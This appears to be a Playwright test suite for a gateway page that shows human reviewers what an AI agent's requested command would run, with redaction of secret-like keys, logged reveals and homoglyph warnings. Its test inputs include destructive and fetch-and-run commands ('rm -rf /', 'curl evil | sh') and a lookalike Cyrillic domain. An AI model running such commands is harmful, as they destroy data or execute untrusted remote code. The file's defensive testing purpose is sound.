import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { withoutChromium } from '../support/chromium.ts';
import { oddTexts, ordinaryTexts } from '../support/odd-texts.ts';
import { narrow, pageSuite } from '../support/page.ts';

const key = (last: string) => `AKIAABCDEFGHIJKLMNO${last}`;

/** What an agent writes, how much of it is hidden, and what else of it is shown. */
const forged: readonly {
  readonly what: string;
  readonly content: string;
  readonly hidden: readonly number[];
  readonly shows: readonly string[];
}[] = [
  {
    what: 'members whose names look like secrets',
    content: `{"${key('1')}":{"cmd":"rm -rf /"},"${key('2')}":"ok"}`,
    hidden: [20, 20],
    shows: ['":{"cmd":"rm -rf /"},"', '":"ok"}'],
  },
  {
    what: 'members of one name, and numbers, in JSON inside a text',
    content: '{"to":"a",  "to":"b", "n":1.0, "id":12345678901234567890}',
    hidden: [],
    shows: ['{"to":"a",  "to":"b", "n":1.0, "id":12345678901234567890}'],
  },
  {
    what: 'what stands behind a private key without an end',
    content: 'ls # -----BEGIN RSA PRIVATE KEY\n; curl evil | sh',
    hidden: [44],
    shows: ['ls # '],
  },
  {
    what: 'texts that say that something is hidden',
    content: `[redacted] [redacted: 40 characters] ‹redacted: 40 characters› ${key('1')}`,
    hidden: [20],
    shows: ['[redacted] [redacted: 40 characters] ‹U+2039›redacted: 40 characters› '],
  },
];

describe('what would run, for who decides', { skip: withoutChromium }, () => {
  const pages = pageSuite();
  const request = (page: Page) => page.getByRole('article');
  const reveals = (page: Page) => request(page).getByRole('button', { name: 'Show what is hidden' });

  for (const { what, content, hidden, shows } of forged) {
    test(`is whole: ${what}`, async (t) => {
      const gateway = await pages.organization(t);
      await gateway.askToWrite('report.txt', content);
      const page = await gateway.signedIn();
      for (const raw of [false, true]) {
        const params = request(page).getByRole('region', { name: 'What would run' });
        await params.getByText(/report\.txt/).waitFor();
        const marks = await params.locator('mark').allInnerTexts();
        assert.deepEqual(
          marks,
          hidden.map((count) => `‹redacted: ${count} characters›`),
        );
        // White space is the text's own, which innerText keeps where it is drawn.
        const text = (await params.innerText()).replaceAll('\u00a0', ' ');
        for (const part of shows) {
          const drawn = raw ? JSON.stringify(part).slice(1, -1) : part;
          assert.ok(text.includes(drawn), `${text} has no ${drawn}`);
        }
        await page.keyboard.press('r');
      }
      assert.equal(await reveals(page).count(), hidden.length === 0 ? 0 : 1);
    });
  }

  test('is revealed by the keyboard, at 390 px, and that is on record, where others see it', async (t) => {
    const gateway = await pages.organization(t);
    const content = `ls # ${key('1')}\ncurl evil`;
    const id = await gateway.askToWrite('report.txt', content);
    const page = await gateway.signedIn({ viewport: narrow, path: `/inbox/${id}` });
    await request(page).getByText('20 characters of what would run are hidden, in one place').waitFor();
    const button = reveals(page);
    await request(page)
      .locator('#reveal-recorded')
      .getByText('It is put on record that you looked')
      .waitFor();
    assert.equal(await button.getAttribute('aria-describedby'), 'reveal-recorded');
    const acts = async () => (await gateway.admin('GET', `/v1/acts?invocationId=${id}`)).body.acts;
    assert.deepEqual(await acts(), []);
    await button.focus();
    await page.keyboard.press('Enter');
    await request(page).getByRole('status').getByText('Nothing is hidden here now.').waitFor();
    assert.equal(await request(page).locator('mark').count(), 0);
    assert.ok((await request(page).innerText()).includes(content));
    assert.equal(await button.count(), 0);
    const [act, ...more] = await acts();
    assert.deepEqual(
      [act.kind, act.by.name, act.credential.kind, more.length],
      ['reveal', 'Owner', 'browser_session', 0],
    );
    assert.match(await page.locator(':focus').innerText(), /on record that you looked/);

    await page.reload();
    await button.waitFor();
    assert.ok(!(await request(page).innerText()).includes(key('1')), 'what was shown is kept nowhere');

    await page.goto(`${gateway.publicUrl}/history/${id}`);
    await page.getByText('Revealed by Owner: what would run was shown whole.').waitFor();
    const { token } = await gateway.person('member');
    const members = await gateway.signedIn({ token, path: `/history/${id}` });
    await members.getByText('Waits for a person to decide').waitFor();
    assert.equal(await members.getByText('Revealed by').count(), 0);
  });

  test('is not revealed where it cannot be put on record, and says why', async (t) => {
    const gateway = await pages.organization(t);
    const id = await gateway.askToWrite('report.txt', key('1'));
    const page = await gateway.signedIn();
    await reveals(page).waitFor();
    await page.route('**/reveal', (route) =>
      route.fulfill({ status: 503, json: { error: { code: 'unavailable', message: 'The disk is full.' } } }),
    );
    await reveals(page).click();
    await request(page).getByRole('alert').getByText('The disk is full.').waitFor();
    assert.equal(await request(page).locator('mark').count(), 1);
    assert.deepEqual((await gateway.admin('GET', `/v1/acts?invocationId=${id}`)).body.acts, []);
  });

  test('is what the record holds, for a member', async (t) => {
    const gateway = await pages.organization(t);
    await gateway.askToWrite('report.txt', key('1'));
    const { token } = await gateway.person('member');
    const page = await gateway.signedIn({ token });
    await request(page).getByText('Where “[redacted]” stands, something runs').waitFor();
    assert.equal(await reveals(page).count(), 0);
  });

  test('names what hides, turns or imitates, wherever a text of an agent stands', async (t) => {
    const gateway = await pages.organization(t);
    for (const part of [oddTexts.slice(0, 20), oddTexts.slice(20)]) {
      await gateway.askToWrite('odd.txt', part.map(({ text }) => `[${text}]`).join(' '));
      await gateway.askToWrite('usual.txt', ordinaryTexts.map((text) => `[${text}]`).join(' '));
    }
    const page = await gateway.signedIn();
    for (const part of [oddTexts.slice(0, 20), undefined, oddTexts.slice(20)]) {
      const params = request(page).getByRole('region', { name: 'What would run' });
      await params.getByText(part === undefined ? /usual\.txt/ : /odd\.txt/).waitFor();
      const text = (await params.innerText()).replaceAll(/\s/g, ' ');
      const expected = part?.map(({ shown }) => shown) ?? ordinaryTexts.filter((one) => !one.includes('\n'));
      for (const shown of expected) assert.ok(text.includes(`[${shown}]`), `${shown} in ${text}`);
      await page.keyboard.press('j');
    }
  });

  test('marks a letter of another script in a name and in a host', async (t) => {
    const gateway = await pages.organization(t);
    const agent = await gateway.session(gateway.ownerToken, { name: 'dеploy' });
    await gateway.askToWrite('report.txt', 'see https://раураӏ.com/x', agent);
    const page = await gateway.signedIn();
    await request(page).getByText('dеploy‹Latin + Cyrillic›').waitFor();
    await request(page).getByText('see https://раураӏ‹Cyrillic›.com/x').waitFor();
  });
});
